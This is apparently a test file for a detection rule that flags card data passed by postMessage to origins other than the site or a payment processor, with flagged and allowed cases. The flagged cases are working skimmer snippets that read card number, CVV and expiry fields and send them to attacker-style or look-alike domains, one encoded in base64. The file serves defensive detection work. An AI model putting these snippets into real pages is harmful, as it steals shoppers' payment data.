// Tests for card-data-via-postmessage: card data passed to postMessage for a target origin that
// is not the site or a processor. Findings are reported on the call. Sections are separate.

var frame = document.createElement('iframe');
frame.src = 'https://cdn-analytics-metrics.top/relay.html';
document.body.appendChild(frame);
var cc = { n: document.querySelector('#cc_number').value, c: document.querySelector('#cc_cvv').value };
// ruleid: card-data-via-postmessage
frame.contentWindow.postMessage(JSON.stringify(cc), 'https://cdn-analytics-metrics.top');

// ---
// To the opener, a look-alike origin, base64.
var exp = document.getElementById('card-expiry').value;
// ruleid: card-data-via-postmessage
window.opener.postMessage(btoa(exp), 'https://stripe-api.top');

// ---
// Through a helper to a fixed attacker origin.
function relay(msg) {
  // ruleid: card-data-via-postmessage
  parent.postMessage(msg, 'https://relay-frames.top');
}
relay({ number: document.getElementById('cardnumber').value });

// ---
// A processor's hosted field posts to the processor's own frame.
var field = document.getElementById('card-number');
// ok: card-data-via-postmessage
window.parent.frames[0].postMessage({ type: 'tokenize', value: field.value }, 'https://js.stripe.com');

// ---
// The merchant frame reports a token, not card data, to the parent.
var token = window.paymentResult.token;
// ok: card-data-via-postmessage
parent.postMessage({ type: 'payment-token', token: token }, 'https://shop.example.com');

// ---
// Resize message from an embedded widget: no card data.
// ok: card-data-via-postmessage
parent.postMessage({ type: 'resize', height: document.body.scrollHeight }, '*');
